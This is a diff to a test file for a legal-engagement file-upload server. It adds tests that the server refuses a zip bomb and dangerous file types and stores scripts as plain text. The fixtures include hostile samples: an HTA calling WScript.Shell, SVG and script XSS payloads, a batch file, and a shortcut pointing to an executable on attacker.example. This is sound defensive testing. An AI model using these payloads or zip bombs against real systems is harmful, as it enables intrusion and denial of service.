@@ -8,6 +8,7 @@ import { createHash, randomBytes } from 'node:crypto'
 import fs from 'node:fs'
 import http from 'node:http'
 import path from 'node:path'
+import { monitorEventLoopDelay } from 'node:perf_hooks'
 import Database from 'better-sqlite3'
 import type { FastifyInstance } from 'fastify'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -16,6 +17,7 @@ import { RUNTIME_FILE_NAME, RUNTIME_FILE_VERSION } from '~/lib/booking/runtime-c
 import { engagementContent } from '~/lib/engagement/engagement-content.server'
 import { eraseCommand } from '../../scripts/leads-erase'
 import { runStaffCommand } from '../../scripts/staff'
+import { pdfBytes } from '../../tests/support/pdf-bytes'
 import { filesHoldingPlaintext } from '../../tests/support/plaintext-scan'
 import { pdfText } from '../../tests/e2e/pdf-text'
 import { buildApp } from '../app'
@@ -31,6 +33,7 @@ import {
 import { inboxOf } from '../inbox/inbox-server'
 import { csrfTokenFor, hashSecret, newSecret } from '../inbox/tokens'
 import { MAX_FILE_BYTES } from './engagement-service'
+import { xlsxWorkbook, zipBomb } from '../../tests/support/zip-archive'
 
 const ATTORNEY = 'counsel.pell@lawfirm.example.com'
 let app: FastifyInstance
@@ -322,7 +325,7 @@ describe('the engagement, from the cleared request to the records', () => {
   })
 
   it('takes a record cut off halfway and resumed, sealed on disk throughout; staff download the same bytes', async () => {
-    const plaintext = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(6 * 1024 * 1024 - 9)])
+    const plaintext = pdfBytes(6 * 1024 * 1024)
     const created = await createUpload(tokenOf(link), 'deposition exhibits.pdf', plaintext.length)
     if (created === 'cut') throw new Error('creation cut')
     expect(created.status, created.text).toBe(201)
@@ -384,7 +387,92 @@ describe('the engagement, from the cleared request to the records', () => {
     expect(recordFiles().every((name) => /^[0-9a-f]{32}\.rec$/.test(name))).toBe(true)
     expect(fs.existsSync(path.join(dataDir, '..', 'x'))).toBe(false)
     const page = await app.inject({ url: link })
-    expect(page.body).toContain('<td class="engage-filename">../../x</td>')
+    expect(page.body).toContain('<td class="engage-filename">../../x.csv</td>')
+  })
+
+  /** Creates an upload and sends all of it in one PATCH; the final answer, and the upload's id. */
+  async function uploadWhole(name: string, bytes: Buffer) {
+    const created = await createUpload(tokenOf(link), name, bytes.length)
+    if (created === 'cut') throw new Error('creation cut')
+    expect(created.status, created.text).toBe(201)
+    const location = created.headers.location!
+    const sent = await patch(tokenOf(link), location, 0, bytes)
+    if (sent === 'cut') throw new Error('upload cut')
+    return { ...sent, fileId: location.split('/').at(-1)! }
+  }
+
+  const staffDownload = (fileId: string) =>
+    app.inject({
+      url: `/inbox/requests/${leadId}/engagement/files/${fileId}`,
+      headers: { cookie: staffCookie.cookie },
+    })
+
+  it('refuses a zip bomb declared as DOCX with 415 without stalling other requests; takes a real 20 MB XLSX', async () => {
+    const rowsBefore = rowCount('record_files')
+    const bomb = await zipBomb()
+    const delay = monitorEventLoopDelay({ resolution: 10 })
+    delay.enable()
+    const refused = await uploadWhole('brief.docx', bomb)
+    delay.disable()
+    expect(refused.status).toBe(415)
+    expect(refused.text).toContain('declares far more data than it holds')
+    // The longest the event loop stood still while the bomb was checked (12.5 s before the fix).
+    expect(delay.max / 1e6).toBeLessThan(1000)
+    expect(rowCount('record_files')).toBe(rowsBefore)
+
+    const workbook = xlsxWorkbook(66_000)
+    expect(workbook.length).toBeGreaterThan(20 * 1024 * 1024)
+    const accepted = await uploadWhole('damages model.xlsx', workbook)
+    expect(accepted.status, accepted.text).toBe(204)
+    const download = await staffDownload(accepted.fileId)
+    expect(download.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
+    expect(sha256(download.rawPayload)).toBe(sha256(workbook))
+  }, 120_000)
+
+  it('refuses markup and a fake PDF; keeps other text as plain text named .txt and CSV as CSV, sent with their own type', async () => {
+    const refusals: Array<[string, string]> = [
+      [
+        'payload.hta',
+        '<HTA:APPLICATION ID="x" WINDOWSTATE="minimize">\n<script>new ActiveXObject("WScript.Shell")</script>\n',
+      ],
+      ['report.html', '<!DOCTYPE html>\n<html><body><p>Quarterly report</p></body></html>\n'],
+      ['chart.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect/></svg>\n'],
+      ['invoice.html', '%PDF-1.4\n<html><script>alert(1)</script></html>\n'],
+    ]
+    const rowsBefore = rowCount('record_files')
+    for (const [name, text] of refusals) {
+      const answer = await uploadWhole(name, Buffer.from(text))
+      expect(answer.status, name).toBe(415)
+    }
+    expect(rowCount('record_files')).toBe(rowsBefore)
+
+    const kept: Array<[string, string, string, string]> = [
+      ['run.bat', '@echo off\r\nstart calc.exe\r\n', 'run.bat.txt', 'text/plain; charset=utf-8'],
+      [
+        'Shortcut.url',
+        '[InternetShortcut]\r\nURL=file://attacker.example/share/run.exe\r\n',
+        'Shortcut.url.txt',
+        'text/plain; charset=utf-8',
+      ],
+      [
+        'Pell deposition.txt',
+        'DEPOSITION OF MARISOL PELL, taken May 2, 2026\n\nQ. Please state your name.\nA. Marisol Pell.\nQ. Where do you work, and since when?\nA. At Pell & Ward, since 2011.\n',
+        'Pell deposition.txt',
+        'text/plain; charset=utf-8',
+      ],
+      ['payroll', 'date,employee,amount\n2026-01-02,"Pell, M.",100.00\n', 'payroll.csv', 'text/csv; charset=utf-8'],
+    ]
+    for (const [name, text, storedName, mediaType] of kept) {
+      const answer = await uploadWhole(name, Buffer.from(text))
+      expect(answer.status, `${name}: ${answer.text}`).toBe(204)
+      const download = await staffDownload(answer.fileId)
+      expect(download.headers['content-type'], name).toBe(mediaType)
+      expect(download.headers['x-content-type-options']).toBe('nosniff')
+      expect(download.headers['content-disposition']).toContain(`filename="${storedName}"`)
+      expect(download.body).toBe(text)
+    }
+    const page = await app.inject({ url: link })
+    expect(page.body).toContain('<td class="engage-filename">run.bat.txt</td><td>Plain text</td>')
   })
 
   it('refuses an expired link with a plain page and stores nothing', async () => {
